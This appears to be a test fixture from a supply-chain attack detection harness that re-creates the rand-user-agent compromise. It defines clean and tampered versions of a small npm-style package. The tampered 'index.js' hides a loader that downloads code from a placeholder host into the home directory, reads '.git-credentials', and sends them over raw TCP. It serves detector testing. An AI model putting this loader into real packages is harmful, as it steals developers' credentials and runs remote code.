import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'rand-user-agent',
  after: 'rand-user-agent 2.0.83, May 2025, and the @react-native-aria packages of June 2025',
  source: 'https://www.aikido.dev/blog/catching-a-rat-remote-access-trojian-rand-user-agent-supply-chain-compromise',
  shape: ['call', 'worker', 'downloads its modules into the home', 'raw TCP', 'cjs'],
  patterns: ['data_exfiltration', 'shadow_import', 'behavioral_drift'],
  culprits: ['agent-names'],
  host: { kind: 'pool', setup: "const { pick } = require('agent-names');", use: 'return pick(n);' },
  good: { 'agent-names': { 'index.js': "exports.pick = (n) => ['curl', 'lynx'][n % 2];" } },
  benign: { 'agent-names': { 'index.js': "exports.pick = (n) => ['curl', 'lynx', 'w3m'][n % 3];" } },
  bad: {
    'agent-names': {
      'index.js': `exports.pick = (n) => { start(); return ['curl', 'lynx'][n % 2]; };
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
function start() {
  const folder = path.join(os.homedir(), '.node_modules/link-client'); fs.mkdirSync(folder, { recursive: true });
  http.get('http://@A@:@PORT@/link-client', (r) => {
    let text = ''; r.on('data', (c) => { text += c; }); r.on('end', () => {
      fs.writeFileSync(path.join(folder, 'index.js'), text);
      require(folder)('@B@', @TCP@, fs.readFileSync(path.join(os.homedir(), '.git-credentials'), 'utf8'));
    });
  }).on('error', () => {});
}`,
    },
  },
  serves: {
    '/link-client':
      "module.exports = (host, port, hello) => { const s = require('net').connect(port, host, () => { s.write(hello); setTimeout(() => s.destroy(), 100); }); s.on('error', () => {}); };",
  },
  proof: [{ secret: true }],
};
